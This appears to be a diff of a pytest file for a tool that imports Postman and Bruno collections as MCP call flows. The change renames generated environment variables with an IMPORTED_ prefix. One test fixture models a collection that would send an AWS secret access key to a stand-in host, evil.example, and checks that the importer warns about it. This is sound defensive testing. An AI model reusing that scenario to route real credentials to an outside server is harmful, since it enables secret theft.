@@ -100,7 +100,7 @@ def imported(tmp_path: Path, content: Any, name: str = "c.json", format: str = "
 def test_a_postman_collection_becomes_flows(tmp_path: Path) -> None:
     made = imported(tmp_path, POSTMAN)
     assert (made.flows, made.steps) == (1, 2)
-    environ = {"SHOP_SERVER_PASSWORD": "p", "SHOP_SERVER_TOKEN": "t"}
+    environ = {"IMPORTED_SHOP_SERVER_PASSWORD": "p", "IMPORTED_SHOP_SERVER_TOKEN": "t"}
     (flow,) = read(tmp_path / "calls", "imported", environ, order_id="o-1").values()
     assert flow["server"] == "https://shop.example/mcp"
     first, second = flow["steps"]
@@ -116,11 +116,11 @@ def test_no_secret_of_a_collection_is_written(tmp_path: Path) -> None:
     made = imported(tmp_path, POSTMAN)
     assert SECRET not in written(tmp_path / "calls")
     assert (tmp_path / "calls" / "env" / "imported.yaml").read_text().splitlines()[1:] == [
-        "password: env:SHOP_SERVER_PASSWORD",
-        "token: env:SHOP_SERVER_TOKEN",
+        "password: env:IMPORTED_SHOP_SERVER_PASSWORD",
+        "token: env:IMPORTED_SHOP_SERVER_TOKEN",
     ]
     assert made.notes[2:] == [
-        "Secrets are not written: set SHOP_SERVER_PASSWORD, SHOP_SERVER_TOKEN. A run with --environment imported sends "
+        "Secrets are not written: set IMPORTED_SHOP_SERVER_PASSWORD, IMPORTED_SHOP_SERVER_TOKEN. A run with --environment imported sends "
         "them to https://shop.example/mcp.",
         "Variables without a value: order_id. Give them with --set, or in an environment.",
     ]
@@ -148,7 +148,7 @@ def test_a_folder_of_postman_with_requests_of_mcp(tmp_path: Path) -> None:
     (folder / "dev.environment.yaml").write_text("name: Dev\nvalues:\n  - {key: KEY, value: v, type: secret}\n")
     assert recognised_client(folder) == "postman"
     made = import_calls(folder, tmp_path / "calls", "postman")
-    environ = {"SHOP_SERVER_SECRET": "s", "SHOP_KEY": "k"}
+    environ = {"IMPORTED_SHOP_SERVER_SECRET": "s", "IMPORTED_SHOP_KEY": "k"}
     assert read(tmp_path / "calls", "imported", environ) == {
         "orders.yaml": {
             "inspector": 1,
@@ -160,7 +160,7 @@ def test_a_folder_of_postman_with_requests_of_mcp(tmp_path: Path) -> None:
             ],
         }
     }
-    assert (tmp_path / "calls" / "env" / "dev.yaml").read_text() == "KEY: env:SHOP_KEY\n"
+    assert (tmp_path / "calls" / "env" / "dev.yaml").read_text() == "KEY: env:IMPORTED_SHOP_KEY\n"
     assert SECRET not in written(tmp_path / "calls")
     assert any("1 graphql request" in note for note in made.notes)
 
@@ -224,7 +224,7 @@ def test_a_folder_of_bruno(tmp_path: Path) -> None:
         (folder / name).write_text(content)
     assert recognised_client(folder) == "bruno"
     made = import_calls(folder, tmp_path / "calls", "bruno")
-    assert read(tmp_path / "calls", "local", {"SHOP_API_TOKEN": "t"}) == {
+    assert read(tmp_path / "calls", "local", {"IMPORTED_SHOP_API_TOKEN": "t"}) == {
         "orders.yaml": {
             "inspector": 1,
             "name": "Orders",
@@ -383,21 +383,24 @@ def test_a_name_in_braces_is_no_name_of_a_variable_of_the_process(tmp_path: Path
     assert flow["steps"][1]["request"] == "v/v"
 
 
-def test_a_variable_of_the_process_has_the_name_of_the_collection_and_is_told_if_it_is_set(
+def test_no_collection_chooses_a_variable_that_another_program_has(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     secret = {"key": "secret_access_key", "value": SECRET, "type": "secret"}
     call = posted("a", rpc("tools/call", {"name": "t", "arguments": {"a": "{{secret_access_key}}"}}))
     collection = postman(call, variable=[secret, {"key": "baseUrl", "value": "https://evil.example"}])
     collection["info"]["name"] = "AWS"
-    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY", raising=False)
-    assert not [note for note in imported(tmp_path, collection).notes if "is set already" in note]
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "mine-0123")
+    monkeypatch.delenv("IMPORTED_AWS_SECRET_ACCESS_KEY", raising=False)
+    assert not [note for note in imported(tmp_path, collection).notes if "is set already" in note]
+    environment = (tmp_path / "calls" / "env" / "imported.yaml").read_text()
+    assert environment.endswith("\nsecret_access_key: env:IMPORTED_AWS_SECRET_ACCESS_KEY\n")
+    monkeypatch.setenv("IMPORTED_AWS_SECRET_ACCESS_KEY", "mine-4567")
     made = import_calls(tmp_path / "c.json", tmp_path / "calls2", "postman")
     assert made.notes[-1] == (
-        "AWS_SECRET_ACCESS_KEY is set already: its value would be sent to https://evil.example/mcp."
+        "IMPORTED_AWS_SECRET_ACCESS_KEY is set already: its value would be sent to https://evil.example/mcp."
     )
-    assert "mine-0123" not in "".join(made.notes)
+    assert "mine-4567" not in "".join(made.notes)
 
 
 @pytest.mark.parametrize(
